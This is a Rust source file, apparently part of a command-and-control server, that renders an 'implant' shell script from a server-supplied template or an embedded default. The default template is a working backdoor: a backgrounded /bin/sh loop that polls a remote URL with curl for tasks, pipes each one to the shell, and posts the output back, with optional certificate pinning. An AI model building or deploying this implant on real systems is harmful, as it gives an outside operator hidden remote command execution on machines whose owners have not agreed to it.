//! `/c` (spec §4.5.5): render the implant script from either a
//! server-supplied `implant.tmpl` or the embedded default.

use std::path::Path;

use rand::Rng;

/// The embedded default template (spec §6's "Implant template" section): a
/// POSIX `/bin/sh` loop that backgrounds itself, polls for tasks, runs them,
/// and posts combined stdout+stderr back. `{PinClause}` appears twice so
/// that, when `PubkeyFP` is non-empty, the rendered script contains two
/// identical `--pinnedpubkey "sha256//..."` clauses (Testable Property 7 /
/// scenario S6).
pub const DEFAULT_TEMPLATE: &str = r#"#!/bin/sh
URL="{URL}"
ID="{RandN}$(hostname 2>/dev/null || echo host)$$"
(
while :; do
  TASK=$(curl -s {PinClause} "$URL/t/$ID")
  if [ -n "$TASK" ]; then
    echo "$TASK" | /bin/sh 2>&1 | curl -s {PinClause} -X POST --data-binary @- "$URL/o/$ID" >/dev/null
  fi
  sleep 5
done
) &
"#;

pub struct TemplateParams {
    pub pubkey_fp: String,
    pub rand_n: String,
    pub url: String,
}

/// Read `implant.tmpl` from the server directory, falling back to the
/// embedded default if absent.
pub async fn discover_template(server_dir: &Path) -> String {
    match tokio::fs::read_to_string(server_dir.join("implant.tmpl")).await {
        Ok(contents) => contents,
        Err(_) => DEFAULT_TEMPLATE.to_string(),
    }
}

pub fn render(template: &str, params: &TemplateParams) -> String {
    let pin_clause = if params.pubkey_fp.is_empty() {
        String::new()
    } else {
        format!("--pinnedpubkey \"sha256//{}\"", params.pubkey_fp)
    };
    template
        .replace("{PinClause}", &pin_clause)
        .replace("{PubkeyFP}", &params.pubkey_fp)
        .replace("{RandN}", &params.rand_n)
        .replace("{URL}", &params.url)
}

/// A random 16-bit identifier, base-36 encoded (spec §4.5.5's `RandN`).
pub fn random_rand_n() -> String {
    let n: u16 = rand::thread_rng().gen();
    to_base36(n as u64)
}

fn to_base36(mut n: u64) -> String {
    const DIGITS: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyz";
    if n == 0 {
        return "0".to_string();
    }
    let mut buf = Vec::new();
    while n > 0 {
        buf.push(DIGITS[(n % 36) as usize]);
        n /= 36;
    }
    buf.reverse();
    String::from_utf8(buf).unwrap()
}
